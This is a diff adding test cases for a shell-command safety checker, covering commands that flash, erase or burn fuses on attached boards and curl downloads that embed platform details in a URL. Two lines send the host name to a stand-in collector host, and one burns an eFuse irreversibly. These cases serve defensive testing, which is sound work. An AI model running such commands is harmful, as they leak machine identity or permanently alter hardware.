@@ -2647,3 +2647,34 @@ describe('the fifty-eighth, sixtieth and sixty-first sets: hypervisors, CI serve
     if (reason) expect(r.reasons.join('; ')).toContain(reason);
   });
 });
+
+describe('the fifty-ninth set: boards flashed and erased, a platform in a download URL', () => {
+  const cases: [string, boolean, string?][] = [
+    // a board's flash written, erased or its fuses burnt; reading the chip and building an image change nothing
+    ['esptool --port COM4 write-flash 0x1000 my_app-0x01000.bin', true, 'attached board'],
+    ['esptool.py --chip esp32 write_flash 0x1000 firmware.bin', true, 'attached board'],
+    ['esptool erase-region 0x20000 16k', true, 'attached board'],
+    ['espefuse.py burn_efuse JTAG_DISABLE', true, 'attached board'],
+    ['idf.py -p /dev/ttyUSB0 flash monitor', true, 'attached board'],
+    ['dfu-util -a 0 -D firmware.dfu', true, 'attached board'],
+    ['avrdude -p m328p -c arduino -U flash:w:main.hex', true, 'attached board'],
+    ['openocd -f board.cfg -c "program fw.elf verify reset exit"', true, 'attached board'],
+    ['make flash', true, 'attached board'],
+    ['esptool read-flash 0 0x400000 flash.bin', false],
+    ['esptool merge-bin -o merged.bin 0x0 app.bin', false],
+    ['idf.py build', false],
+    ['avrdude -p m328p -c arduino -U flash:r:dump.hex', false],
+    ['dfu-util -l', false],
+    ['esptool read-flash 0 0x400000 /etc/flash.bin', true, 'outside the workspace'],
+    // the platform printed into a release's URL picks the build; who or where the machine is stays out
+    ['curl -L -o tool.deb "https://github.com/acme/tool/releases/download/v1/tool_$(dpkg --print-architecture).deb"', false],
+    ["curl -LO https://example.com/tool-$(uname -s | tr '[:upper:]' '[:lower:]')-$(uname -m).tgz", false],
+    ['curl https://collector.example/$(uname -n)', true, 'sends the output of a command to the network'],
+    ['curl https://collector.example/$(hostname)', true, 'sends the output of a command to the network'],
+  ];
+  it.each(cases)('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
